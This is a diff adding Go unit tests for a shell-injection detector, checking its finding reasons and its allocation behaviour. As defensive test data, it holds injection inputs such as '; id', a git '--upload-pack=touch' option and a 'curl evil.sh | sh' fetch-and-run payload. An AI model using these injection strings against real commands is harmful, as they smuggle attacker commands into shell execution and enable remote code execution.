@@ -123,3 +123,31 @@ func TestShellInjection(t *testing.T) {
 		})
 	}
 }
+
+// The reason of a finding is assembled only when DetectShell is asked for
+// one; its wording is part of the events users read.
+func TestDetectShellReasons(t *testing.T) {
+	for _, tt := range []struct{ command, input, reason string }{
+		{"ls -la x; id", "x; id", `input reaches operator ";"`},
+		{`echo "a$HOME"`, "a$HOME", `input adds a parameter expansion "$HOME" inside double quotes`},
+		{"git clone --upload-pack=touch x", "--upload-pack=touch", `input adds option argument "--upload-pack=touch"`},
+		{"sh -c 'ls x;id'", "x;id", `in the script of a nested shell, input reaches operator ";"`},
+		{"ls 'a b", "a b", "input leaves the command unparsable: shell: unterminated single quote opened at byte 3"},
+		{"echo ${x}y", "${x}y", "input adds a parameter expansion ${"},
+	} {
+		f, ok := DetectShell(tt.command, tt.input)
+		if !ok || f.Reason != tt.reason {
+			t.Errorf("DetectShell(%q, %q) = %v, %q; want %q", tt.command, tt.input, ok, f.Reason, tt.reason)
+		}
+		if !ShellInjection(tt.command, tt.input) {
+			t.Errorf("ShellInjection(%q, %q) = false, DetectShell found it", tt.command, tt.input)
+		}
+	}
+}
+
+func TestShellInjectionAllocatesNothing(t *testing.T) {
+	cmd := `convert /var/app/uploads/x.png; curl evil.sh | sh -resize 50%`
+	if n := testing.AllocsPerRun(100, func() { ShellInjection(cmd, "x.png; curl evil.sh | sh") }); n != 0 {
+		t.Errorf("ShellInjection on an attack allocates %v times, want 0", n)
+	}
+}
